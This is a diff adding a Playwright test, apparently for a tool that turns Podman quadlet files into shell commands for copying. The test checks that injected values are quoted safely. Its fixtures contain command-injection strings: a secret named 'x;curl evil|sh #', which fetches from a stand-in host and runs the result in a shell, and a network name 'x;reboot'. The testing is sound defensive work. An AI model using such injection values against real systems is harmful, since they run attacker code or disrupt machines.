@@ -153,3 +153,20 @@ test("an address with a value of 1 MB says which one is too long, and fills in t
   await expect(page.getByRole("textbox", { name: "Container name" })).toHaveValue("web");
   await expectUsable(page);
 });
+
+test("values that a shell would run are words of the commands to copy", async ({ page }) => {
+  await openPage(page);
+  await open(page, {
+    "web.container":
+      '[Container]\nImage=quay.io/a/b:1\nServiceName=*\nSecret="x;curl evil|sh #"\nNetwork=app.network\n',
+    "app.network": "[Network]\nNetworkName=x;reboot\nSubnet=10.1.0.0/24\n",
+  });
+  const matters = page.getByRole("region", { name: "Why it matters" });
+  await expect(matters).toContainText("“sudo podman secret create 'x;curl evil|sh #' /dev/tty”");
+  // systemctl would take it for every service.
+  const install = page.getByRole("region", { name: "Install it" });
+  await expect(install).toContainText("systemd takes no service of this name");
+  await expect(install.locator("code").last()).toHaveText("sudo systemctl daemon-reload");
+  await page.getByRole("tab", { name: "app.network" }).click();
+  await expect(matters).toContainText("“podman network rm 'x;reboot'”");
+});
